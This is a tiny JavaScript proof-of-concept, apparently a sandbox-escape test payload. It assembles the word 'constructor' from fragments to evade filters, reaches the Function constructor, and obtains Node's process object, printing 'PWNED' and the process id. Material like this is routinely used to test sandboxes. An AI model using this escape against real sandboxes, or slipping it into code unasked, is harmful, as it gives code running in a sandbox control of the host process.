const w = ['con', 'structor'].join('');
const t = { go: (f) => f[w] };
t.go({});
const fn = (x) => x;
const { assign } = Object;
const o = assign({}, t);
console.log('PWNED', o.go(fn)('return process')().pid);
